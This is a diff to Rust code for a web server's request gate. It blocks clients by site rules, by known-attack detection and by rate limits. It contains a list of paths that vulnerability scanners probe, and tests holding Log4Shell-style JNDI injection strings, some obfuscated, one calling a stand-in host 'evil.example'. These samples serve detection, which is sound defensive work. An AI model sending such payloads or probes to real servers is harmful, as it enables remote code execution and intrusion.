@@ -1,6 +1,6 @@
 //! Who is refused before anything of the site is looked at: by a rule, by a set of known attacks, or for asking too often.
 
-use std::{borrow::Cow, time::Duration};
+use std::{borrow::Cow, net::IpAddr, time::Duration};
 
 use hyper::{
     HeaderMap,
@@ -8,6 +8,7 @@ use hyper::{
     http::request::Parts,
 };
 use percent_encoding::percent_decode_str;
+use unicode_normalization::UnicodeNormalization as _;
 
 use super::{super::page::Refusal, Gate};
 use crate::{
@@ -19,6 +20,7 @@ use crate::{
             limits::{Limits, Per},
         },
     },
+    http::secret_path,
     serve::rates::Pace,
 };
 
@@ -36,8 +38,13 @@ pub(super) fn refused(gate: &Gate<'_>) -> Option<Refusal> {
         return None;
     }
     let seen = Seen::new(gate.asked.parts);
-    let refusal = by_rule(gate, &seen, client).or_else(|| by_rate(gate, &seen, client))?;
-    if let Some(ban) = limits.ban {
+    let Some(refusal) = by_rule(gate, &seen, client).or_else(|| by_rate(gate, &seen, client, Per::Address)) else {
+        // What all visitors have used up together is nobody's own fault.
+        return by_rate(gate, &seen, client, Per::Site);
+    };
+    // A proxy that is believed, and this machine itself, where one may stand that is not named, speak for many.
+    let is_many = client.is_loopback() || gate.asked.trust.proxies.iter().any(|it| it.contains(client));
+    if let Some(ban) = limits.ban.filter(|_| !is_many) {
         let pace = Pace { times: ban.after, every: Duration::from_secs(ban.within_s.into()) };
         // The last refusal that is borne is the one before the number that is set.
         let borne = Pace { times: pace.times.saturating_sub(1), ..pace };
@@ -49,24 +56,29 @@ pub(super) fn refused(gate: &Gate<'_>) -> Option<Refusal> {
     Some(refusal)
 }
 
-fn by_rule(gate: &Gate<'_>, seen: &Seen<'_>, client: std::net::IpAddr) -> Option<Refusal> {
+fn by_rule(gate: &Gate<'_>, seen: &Seen<'_>, client: IpAddr) -> Option<Refusal> {
     let firewall = &gate.settings.firewall;
-    let rule = firewall.rules.iter().find(|it| seen.fits(it, client)).map(|it| (it.name.as_str(), it.action));
-    let set = || firewall.sets.iter().find(|it| seen.is_of(**it)).map(|it| (word(*it), firewall.sets_do));
-    let (name, action) = rule.or_else(set)?;
-    if action == Action::Allow {
-        return None;
+    let rules = firewall.rules.iter().filter(|it| seen.fits(it, client)).map(|it| (it.name.as_str(), it.action));
+    let sets = firewall.sets.iter().filter(|it| seen.is_of(**it)).map(|it| (word(*it), firewall.sets_do));
+    for (name, action) in rules.chain(sets) {
+        if action == Action::Allow {
+            return None;
+        }
+        if gate.rates.take(("told", gate.target.site, name), TOLD).is_ok() {
+            let (site, path) = (&gate.target.name, secret_path::shown(gate.asked.parts.uri.path()));
+            tracing::info!(%site, rule = name, %client, %path, ?action, "a request fits a rule of the site; the next ones of this minute are not told");
+        }
+        if action == Action::Block {
+            return Some(Refusal::Blocked);
+        }
     }
-    if gate.rates.take(("told", gate.target.site, name), TOLD).is_ok() {
-        let (site, path) = (&gate.target.name, gate.asked.parts.uri.path());
-        tracing::info!(%site, rule = name, %client, path, ?action, "a request fits a rule of the site; the next ones of this minute are not told");
-    }
-    (action == Action::Block).then_some(Refusal::Blocked)
+    None
 }
 
-fn by_rate(gate: &Gate<'_>, seen: &Seen<'_>, client: std::net::IpAddr) -> Option<Refusal> {
+/// Those of each address come first: who is refused by them uses up nothing of what all visitors have together.
+fn by_rate(gate: &Gate<'_>, seen: &Seen<'_>, client: IpAddr, per: Per) -> Option<Refusal> {
     let mut longest = None;
-    for rate in &gate.settings.limits.rates {
+    for rate in gate.settings.limits.rates.iter().filter(|it| it.per == per) {
         if !seen.is_method(&rate.methods) || !policy::fits(&rate.path, &seen.path) {
             continue;
         }
@@ -100,7 +112,8 @@ impl<'a> Seen<'a> {
     fn new(parts: &'a Parts) -> Self {
         let decoded = percent_decode_str(parts.uri.path()).decode_utf8_lossy();
         let mut path = String::with_capacity(decoded.len());
-        for letter in decoded.chars() {
+        // Composed, as names of files are found.
+        for letter in decoded.nfc() {
             let letter = if letter == '\\' { '/' } else { letter.to_ascii_lowercase() };
             if letter != '/' || !path.ends_with('/') {
                 path.push(letter);
@@ -117,12 +130,17 @@ impl<'a> Seen<'a> {
         methods.is_empty() || methods.iter().any(|it| it == self.parts.method.as_str())
     }
 
-    fn fits(&self, rule: &Rule, client: std::net::IpAddr) -> bool {
+    fn fits(&self, rule: &Rule, client: IpAddr) -> bool {
         self.is_method(&rule.methods)
             && (rule.from.is_empty() || rule.from.iter().any(|it| it.contains(client)))
-            && rule.query_has.as_ref().is_none_or(|it| self.query().contains(it.as_str()))
+            && rule.query_has.as_ref().is_none_or(|it| self.has_query(it))
             && rule.agent_has.as_ref().is_none_or(|it| self.is_agent(it))
             && policy::fits(&rule.path, &self.path)
+    }
+
+    fn has_query(&self, part: &str) -> bool {
+        let query = self.query();
+        query.contains(part) || percent_decode_str(query).decode_utf8_lossy().contains(part)
     }
 
     fn is_agent(&self, part: &str) -> bool {
@@ -175,20 +193,17 @@ impl<'a> Seen<'a> {
 }
 
 /// What scanners look for: files and, with a slash behind, folders.
-const PROBES: [&str; 26] = [
+const PROBES: [&str; 22] = [
     "/_ignition/execute-solution",
     "/actuator/",
     "/adminer.php",
     "/boaform/",
     "/cgi-bin/",
     "/config.json.bak",
-    "/console/",
     "/debug/default/view",
     "/geoserver/",
     "/hnap1/",
     "/jenkins/",
-    "/manager/html",
-    "/owa/",
     "/phpinfo.php",
     "/phpmyadmin/",
     "/pma/",
@@ -199,7 +214,6 @@ const PROBES: [&str; 26] = [
     "/vendor/phpunit/",
     "/wp-admin/",
     "/wp-config.php",
-    "/wp-content/",
     "/wp-login.php",
     "/xmlrpc.php",
 ];
@@ -209,19 +223,27 @@ fn asks_jndi(text: &str) -> bool {
     let Some(begin) = text.find("${") else { return false };
     let mut rest: Cow<'_, str> = Cow::Borrowed(text.get(begin..).unwrap_or_default());
     // The innermost lookups stand for their last part, `${lower:j}` and `${env:x:-j}` for `j`. Each round resolves one; a few hide a word already.
-    for _ in 0..64 {
+    for _ in 0..LOOKUPS_MAX {
         if rest.contains("${jndi:") {
             return true;
         }
         let Some(open) = rest.rfind("${") else { return false };
         let Some(inner) = rest.get(open + 2..) else { return false };
-        let Some(close) = inner.find('}') else { return false };
+        let Some(close) = inner.find('}') else {
+            // Begun and not ended: what is before it may still be one.
+            rest = Cow::Owned(rest.get(..open).unwrap_or_default().to_owned());
+            continue;
+        };
         let (word, behind) = (inner.get(..close).unwrap_or_default(), inner.get(close + 1..).unwrap_or_default());
         let stands_for = word.rsplit_once(":-").or_else(|| word.rsplit_once(':')).map_or(word, |(_, last)| last);
         rest = Cow::Owned(format!("{}{stands_for}{behind}", rest.get(..open).unwrap_or_default()));
     }
-    false
+    // Nobody writes so many by accident.
+    true
 }
+
+/// Lookups within one another, or one behind the other, that are resolved to see what they hide.
+const LOOKUPS_MAX: usize = 64;
 
 fn text<'h>(headers: &'h HeaderMap, name: &hyper::header::HeaderName) -> &'h str {
     headers.get(name).and_then(|it| it.to_str().ok()).unwrap_or_default()
@@ -256,7 +278,7 @@ mod tests {
             (Set::Probes, "//wp-admin/setup-config.php", &[], true),
             (Set::Probes, "/wp-admin", &[], true),
             (Set::Probes, "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", &[], true),
-            (Set::Probes, "/consoles", &[], false),
+            (Set::Probes, "/wp-content/uploads/photo.jpg", &[], false),
             (Set::Probes, "/blog/wp-login.php-explained", &[], false),
             (Set::Probes, "/", &[], false),
             (Set::Exploits, "/", &[("user-agent", "${jndi:ldap://evil.example/a}")], true),
@@ -295,6 +317,8 @@ mod tests {
             (r#","agent_has":"""#, "/", &[("user-agent", "x")], false),
             (r#","query_has":"debug=1""#, "/?a&debug=1", &[], true),
             (r#","query_has":"debug=1""#, "/?a", &[], false),
+            (r#","query_has":"debug=1""#, "/?debug=%31", &[], true),
+            (r#","path":"/caf\u00e9/*""#, "/cafe%CC%81/x", &[], true),
             (r#","from":["192.0.2.0/24"]"#, "/", &[], true),
             (r#","from":["198.51.100.0/24"]"#, "/", &[], false),
         ] {
@@ -305,9 +329,15 @@ mod tests {
 
     #[test]
     fn a_text_full_of_lookups_is_read_in_bounded_time() {
-        let long = "${".repeat(4_000);
-        assert!(!asks_jndi(&long));
-        let long = format!("{}{}", "${a:".repeat(4_000), "}".repeat(4_000));
-        assert!(!asks_jndi(&long));
+        for (text, wanted) in [
+            ("${".repeat(4_000), true),
+            (format!("{}{}", "${a:".repeat(4_000), "}".repeat(4_000)), true),
+            ("${a} ".repeat(20), false),
+            (format!("${{${{lower:j}}ndi:ldap://e}}{}", "${a}".repeat(4_000)), true),
+            (String::from("${${lower:j}ndi:ldap://e}${"), true),
+            (String::from("${${"), false),
+        ] {
+            assert_eq!(asks_jndi(&text), wanted, "{text:.40}");
+        }
     }
 }
